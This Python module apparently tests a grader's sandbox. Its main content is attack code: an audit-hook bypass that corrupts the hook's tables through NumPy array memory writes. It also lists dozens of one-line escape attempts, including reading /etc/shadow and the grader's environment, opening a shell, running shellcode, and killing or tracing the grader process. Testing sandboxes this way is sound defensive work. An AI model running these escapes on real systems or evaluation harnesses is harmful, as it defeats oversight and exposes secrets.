"""Code that gets past Python and its audit hook, and then tries what only the kernel can refuse.

It writes to memory with NumPy alone: `__array_interface__` makes an array of any address. So it
empties the tables of the hook, and ctypes is free. Each attack is one line of Python in `C_CALLS`,
with `libc`; it prints its name if the call has worked.
"""

PAST_THE_HOOK = """
import os, sys
def memory(address, n):
    class At:
        __array_interface__ = {{"data": (address, False), "shape": (n,), "typestr": "<i8",
                               "version": 3}}
    return np.asarray(At())
def blind():
    try:
        open("/etc/passwd").close()
    except PermissionError as error:
        trace = error.__traceback__
        while trace.tb_next:
            trace = trace.tb_next
        held = trace.tb_frame.f_locals
        for name in ("forbidden", "refused", "on_folders"):
            memory(id(held[name]) + 16, 1)[0] = 0       # the length of the tuple
        memory(id(held["own"]) + 24, 1)[0] = id("/")    # any absolute path is its own
        memory(id(held["left"][0]) + 24, 1)[0] = 10**8
        return held
ROOT = "/"
KEPT = blind()
try:
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    print("PAST THE HOOK")
except BaseException as error:
    print("HELD BY THE HOOK", type(error).__name__, error)
def call(number, *a):
    return libc.syscall(ctypes.c_long(number), *[ctypes.c_long(x) if isinstance(x, int) else x
                                                 for x in a])
def attempt(name, way):
    try:
        if way():
            print("DONE", name)
    except BaseException:
        pass
"""

# Each is true if it has worked. 99 is an address that is not there: a call that is allowed says so
# (EFAULT), one that is not says that it does not exist.
C_CALLS = {
    "read the reference": 'open("{reference}").read()',
    "read a neighbour": 'open("{neighbour}").read()',
    "write to a neighbour": 'open("{neighbour}", "w").write("x")',
    "cut a neighbour": 'libc.truncate(b"{neighbour}", 0) == 0',
    "read-only, but cut": 'os.open(os.__file__, os.O_RDONLY | os.O_TRUNC) > 0',
    "move a file over a neighbour": '[open("x", "w").close(), os.rename("x", "{neighbour}")]',
    "remove a neighbour": '[os.remove("{neighbour}")]',
    "touch a neighbour": '[os.utime("{neighbour}", (0, 0))]',
    "rights of a neighbour": '[os.chmod("{neighbour}", 0o777)]',
    "link a neighbour": '[os.link("{neighbour}", "link")]',
    "a pipe with a name": '[os.mkfifo("{victim}")]',
    "a file outside": 'open("{victim}", "w")',
    "a folder outside": '[os.mkdir("{victim}")]',
    "a socket with a name": 'libc.bind(libc.socket(1, 1, 0), b"\\1\\0{victim}", 100) == 0',
    "the names of files": 'os.listdir(os.path.dirname("{neighbour}"))',
    "the password file": 'open("/etc/passwd").read()',
    "the grader's environment": 'open(f"/proc/{{os.getppid()}}/environ").read()',
    "its own environment in /proc": 'open("/proc/self/environ").read()',
    "the memory of others": 'os.open(f"/proc/{{os.getppid()}}/mem", os.O_RDWR)',
    "shared memory": 'os.open("/dev/shm/tinycnn-attack", os.O_CREAT | os.O_RDWR)',
    "a terminal": 'os.open("/dev/ptmx", os.O_RDWR) or os.open("/dev/tty", os.O_RDWR)',
    "a program": '[os.execv("/usr/bin/touch", ["touch", "{victim}"])]',
    "a program from memory": 'call(319, b"x", 0) >= 0',
    "fork": 'os.fork() >= 0',
    "fork by clone": 'call(56, 17, 0, 0, 0, 0) >= 0',
    "fork by vfork": 'libc.syscall(58) >= 0',
    "fork of another machine": 'other_machine() > 0',
    "fork by x32": 'call(0x40000000 + 57) >= 0',
    "a shell": 'libc.system(b"touch {victim}") == 0',
    "users of its own": 'libc.unshare(0x10000000) == 0',
    "mounts of its own": 'libc.unshare(0x20000) == 0',
    "a mount": 'libc.mount(b"none", b".", b"tmpfs", 0, None) == 0',
    "another root": 'libc.chroot(b".") == 0',
    "kill the grader": 'libc.kill({grader}, 9) == 0',
    "kill the parent": 'libc.kill(os.getppid(), 9) == 0',
    "kill all": 'libc.kill(-1, 9) == 0',
    "kill the group": 'libc.kill(0, 9) == 0',
    "kill by a descriptor": 'call(424, call(434, {grader}, 0), 9, None, 0) == 0',
    "kill by a queue": 'call(129, {grader}, 9, ctypes.create_string_buffer(128)) == 0',
    "signals by a file": 'libc.fcntl(os.pipe()[0], 8, {grader}) == 0',
    "trace the grader": 'libc.ptrace(16, {grader}, None, None) == 0',
    "read its memory": 'call(310, {grader}, None, 0, None, 0, 0) == 0',
    "slow it down": 'libc.setpriority(0, {grader}, 19) == 0',
    "bind it to one core": 'libc.sched_setaffinity({grader}, 8, b"\\1" + bytes(7)) == 0',
    "limit it": 'libc.prlimit({grader}, 0, (ctypes.c_long * 2)(1, 1), None) == 0',
    "outlive it": 'libc.prctl(1, 0, 0, 0, 0) == 0',
    "the internet": 'libc.socket(2, 1, 0) >= 0',
    "abstract sockets": 'libc.socket(1, 1, 0) >= 0',
    "netlink": 'libc.socket(16, 3, 0) >= 0',
    "shared memory of System V": 'libc.shmget(7, 4096, 0o1666) >= 0',
    "messages": 'libc.msgget(7, 0o1666) >= 0 or libc.mq_open(b"/x", 66, 0o666, None) >= 0',
    "semaphores": 'libc.semget(7, 1, 0o1666) >= 0',
    "watch files": 'libc.inotify_init() >= 0 or libc.fanotify_init(0, 0) >= 0',
    "rings": 'call(425, 1, ctypes.create_string_buffer(256)) >= 0',
    "programs for the kernel": 'call(321, 0, ctypes.create_string_buffer(128), 128) >= 0',
    "counters": 'call(298, ctypes.create_string_buffer(128), 0, -1, -1, 0) >= 0',
    "keys": 'call(250, 0, -3, 1) >= 0',
    "page faults": 'call(323, 0) >= 0',
    "put in a terminal": 'libc.ioctl(0, 0x5412, b"x") == 0',
    "locks": 'libc.flock(0, 2) == 0',
    "more memory than there is": 'libc.mmap(0, ctypes.c_size_t(1 << 36), 3, 0x4022, -1, 0) != -1',
    "root": 'libc.setuid(0) == 0 and os.getuid() == 0 and open("/etc/shadow").read()',
}

OTHER_MACHINE = """
def other_machine():        # fork of i386, on x86_64: mov eax, 2; int 0x80; ret
    import platform
    if platform.machine() != "x86_64":
        return -1
    import mmap
    page = mmap.mmap(-1, 4096, prot=7)
    page.write(bytes.fromhex("b802000000cd80c3"))
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
"""

# Last, what may end the process.
DANGEROUS = ("a program", "kill all", "kill the group", "kill the parent", "kill the grader",
             "fork of another machine", "a shell")


def _source(names: list[str]) -> str:
    attempts = "".join(f"attempt({name!r}, lambda: {C_CALLS[name]})\n" for name in names)
    return PAST_THE_HOOK + OTHER_MACHINE + attempts + 'print("THE END")\n'


NATIVE = {"all calls of C": _source([n for n in C_CALLS if n not in DANGEROUS]), **{
    name: _source([name]) for name in DANGEROUS}}
